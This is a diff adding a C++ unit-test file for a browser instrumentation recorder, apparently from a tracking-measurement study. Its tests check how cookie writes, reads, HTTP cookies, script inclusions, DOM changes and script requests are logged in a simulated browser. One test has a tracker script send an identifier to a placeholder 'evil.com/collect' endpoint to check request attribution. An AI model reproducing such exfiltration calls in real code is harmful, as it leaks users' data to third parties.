@@ -1,0 +1,214 @@
+// Tests for the measurement extension: the four instrumentation channels of
+// paper §4.1 captured into VisitLog records.
+#include <gtest/gtest.h>
+
+#include "instrument/recorder.h"
+#include "script/interpreter.h"
+#include "test_support.h"
+
+namespace cg::instrument {
+namespace {
+
+using script::Category;
+using testsupport::TestSite;
+using testsupport::context_for_url;
+using testsupport::spec_of;
+
+class RecorderTest : public ::testing::Test {
+ protected:
+  void open(std::vector<std::string> ids = {}) {
+    site_.emplace(std::move(ids));
+    recorder_.set_visit_log(&log_);
+    site_->browser().add_extension(&recorder_);
+    page_ = site_->open();
+  }
+
+  Recorder recorder_;
+  VisitLog log_;
+  std::optional<TestSite> site_;
+  std::unique_ptr<browser::Page> page_;
+};
+
+TEST_F(RecorderTest, RecordsSiteIdentityAndTimings) {
+  open();
+  EXPECT_EQ(log_.site_host, "www.shop.example");
+  EXPECT_EQ(log_.site, "shop.example");
+  EXPECT_EQ(log_.pages_visited, 1);
+  EXPECT_GT(log_.landing_timings.load_event, 0);
+  EXPECT_TRUE(log_.complete());
+}
+
+TEST_F(RecorderTest, RecordsScriptCookieSetWithStackAttribution) {
+  open();
+  const auto ctx = context_for_url("https://cdn.tracker.com/t.js");
+  page_->run_as(ctx, [&](script::PageServices& services) {
+    services.document_cookie_write(ctx, "_t=abcdef12345678; Path=/");
+  });
+  ASSERT_EQ(log_.script_sets.size(), 1u);
+  const auto& record = log_.script_sets[0];
+  EXPECT_EQ(record.cookie_name, "_t");
+  EXPECT_EQ(record.value, "abcdef12345678");
+  EXPECT_EQ(record.setter_domain, "tracker.com");
+  EXPECT_EQ(record.setter_url, "https://cdn.tracker.com/t.js");
+  EXPECT_EQ(record.api, cookies::CookieSource::kDocumentCookie);
+  EXPECT_EQ(record.change_type, cookies::CookieChange::Type::kCreated);
+}
+
+TEST_F(RecorderTest, OverwriteRecordsAttributeDiffs) {
+  open();
+  const auto a = context_for_url("https://a.com/a.js");
+  const auto b = context_for_url("https://b.com/b.js");
+  page_->run_as(a, [&](script::PageServices& services) {
+    services.document_cookie_write(a, "k=orig; Path=/; Max-Age=100");
+  });
+  page_->run_as(b, [&](script::PageServices& services) {
+    services.document_cookie_write(b, "k=new; Path=/; Max-Age=999");
+  });
+  ASSERT_EQ(log_.script_sets.size(), 2u);
+  const auto& over = log_.script_sets[1];
+  EXPECT_EQ(over.change_type, cookies::CookieChange::Type::kOverwritten);
+  EXPECT_TRUE(over.value_changed);
+  EXPECT_TRUE(over.expires_changed);
+  EXPECT_FALSE(over.domain_changed);
+  EXPECT_FALSE(over.path_changed);
+}
+
+TEST_F(RecorderTest, DeletionRecorded) {
+  open();
+  const auto a = context_for_url("https://a.com/a.js");
+  const auto b = context_for_url("https://cleaner.com/c.js");
+  page_->run_as(a, [&](script::PageServices& services) {
+    services.document_cookie_write(a, "k=v; Path=/");
+  });
+  page_->run_as(b, [&](script::PageServices& services) {
+    services.document_cookie_write(
+        b, "k=; Path=/; Expires=Thu, 01 Jan 1970 00:00:00 GMT");
+  });
+  ASSERT_EQ(log_.script_sets.size(), 2u);
+  EXPECT_EQ(log_.script_sets[1].change_type,
+            cookies::CookieChange::Type::kDeleted);
+  EXPECT_EQ(log_.script_sets[1].setter_domain, "cleaner.com");
+}
+
+TEST_F(RecorderTest, ExpiredNoopNotRecorded) {
+  open();
+  const auto ctx = context_for_url("https://a.com/a.js");
+  page_->run_as(ctx, [&](script::PageServices& services) {
+    services.document_cookie_write(ctx, "ghost=1; Path=/; Max-Age=-1");
+  });
+  EXPECT_TRUE(log_.script_sets.empty());
+}
+
+TEST_F(RecorderTest, ReadsRecordedWithReaderAndCount) {
+  open();
+  const auto ctx = context_for_url("https://reader.com/r.js");
+  page_->run_as(ctx, [&](script::PageServices& services) {
+    services.document_cookie_write(ctx, "a=1; Path=/");
+    services.document_cookie_write(ctx, "b=2; Path=/");
+    services.document_cookie_read(ctx);
+  });
+  ASSERT_GE(log_.reads.size(), 1u);
+  const auto& read = log_.reads.back();
+  EXPECT_EQ(read.reader_domain, "reader.com");
+  EXPECT_EQ(read.cookies_returned, 2);
+}
+
+TEST_F(RecorderTest, GroundTruthKeptAlongsideAttribution) {
+  open({"lazy"});
+  site_->catalog().add(spec_of(
+      "lazy", "https://lazy.com/l.js", Category::kAdvertising,
+      {script::run_async(
+          100, {script::set_cookie("_l", "{hex:8}", "; Path=/", false)},
+          "https://cdn.helper.com/jquery.js")}));
+  // Reopen so the catalog addition is visible during load.
+  log_ = VisitLog{};
+  recorder_.set_visit_log(&log_);
+  page_ = site_->open();
+  ASSERT_EQ(log_.script_sets.size(), 1u);
+  // Stack attribution lands on the helper; ground truth knows better.
+  EXPECT_EQ(log_.script_sets[0].setter_domain, "helper.com");
+  EXPECT_EQ(log_.script_sets[0].true_domain, "lazy.com");
+}
+
+TEST_F(RecorderTest, HttpSetCookieCaptured) {
+  site_.emplace(std::vector<std::string>{});
+  site_->browser().network().register_host(
+      "www.shop.example", [](const net::HttpRequest& req) {
+        net::HttpResponse res;
+        if (req.destination == net::RequestDestination::kDocument) {
+          res.headers.add("Set-Cookie", "sid=abc; Path=/; HttpOnly");
+          res.headers.add("Set-Cookie", "pref=1; Path=/");
+        }
+        return res;
+      });
+  recorder_.set_visit_log(&log_);
+  site_->browser().add_extension(&recorder_);
+  page_ = site_->open();
+
+  ASSERT_EQ(log_.http_sets.size(), 2u);
+  EXPECT_TRUE(log_.http_sets[0].http_only);
+  EXPECT_TRUE(log_.http_sets[0].first_party);
+  EXPECT_EQ(log_.http_sets[1].cookie_name, "pref");
+  EXPECT_EQ(log_.http_sets[1].setter_domain, "shop.example");
+}
+
+TEST_F(RecorderTest, ScriptRequestsAttributed) {
+  open();
+  const auto ctx = context_for_url("https://cdn.tracker.com/t.js");
+  page_->run_as(ctx, [&](script::PageServices& services) {
+    services.send_request(
+        ctx, net::Url::must_parse("https://evil.com/collect?x=12345678"));
+  });
+  ASSERT_EQ(log_.requests.size(), 1u);
+  EXPECT_EQ(log_.requests[0].initiator_domain, "tracker.com");
+  EXPECT_EQ(log_.requests[0].dest_domain, "evil.com");
+  EXPECT_NE(log_.requests[0].url.find("x=12345678"), std::string::npos);
+}
+
+TEST_F(RecorderTest, NavigationRequestsNotAttributed) {
+  open();
+  EXPECT_TRUE(log_.requests.empty());  // only the document fetch happened
+}
+
+TEST_F(RecorderTest, ScriptInclusionsRecorded) {
+  open({"tracker"});
+  site_->catalog().add(spec_of("tracker", "https://cdn.tracker.com/t.js",
+                               Category::kAdvertising,
+                               {script::read_cookies()}));
+  log_ = VisitLog{};
+  recorder_.set_visit_log(&log_);
+  page_ = site_->open();
+  ASSERT_EQ(log_.includes.size(), 1u);
+  EXPECT_EQ(log_.includes[0].domain, "tracker.com");
+  EXPECT_EQ(log_.includes[0].category, Category::kAdvertising);
+  EXPECT_EQ(log_.includes[0].inclusion, script::Inclusion::kDirect);
+}
+
+TEST_F(RecorderTest, CrossDomainDomModificationRecorded) {
+  open({"creator", "modifier"});
+  site_->catalog().add(spec_of("creator", "https://widgets.com/w.js",
+                               Category::kSupport,
+                               {script::create_dom("div")}));
+  site_->catalog().add(spec_of("modifier", "https://ads.com/a.js",
+                               Category::kAdvertising,
+                               {script::modify_dom("div")}));
+  log_ = VisitLog{};
+  recorder_.set_visit_log(&log_);
+  page_ = site_->open();
+  ASSERT_GE(log_.dom_mods.size(), 1u);
+  EXPECT_EQ(log_.dom_mods[0].modifier_domain, "ads.com");
+  EXPECT_EQ(log_.dom_mods[0].target_domain, "widgets.com");
+}
+
+TEST_F(RecorderTest, NullLogDisablesRecording) {
+  open();
+  recorder_.set_visit_log(nullptr);
+  const auto ctx = context_for_url("https://a.com/a.js");
+  page_->run_as(ctx, [&](script::PageServices& services) {
+    services.document_cookie_write(ctx, "k=v; Path=/");
+  });
+  EXPECT_TRUE(log_.script_sets.empty());
+}
+
+}  // namespace
+}  // namespace cg::instrument
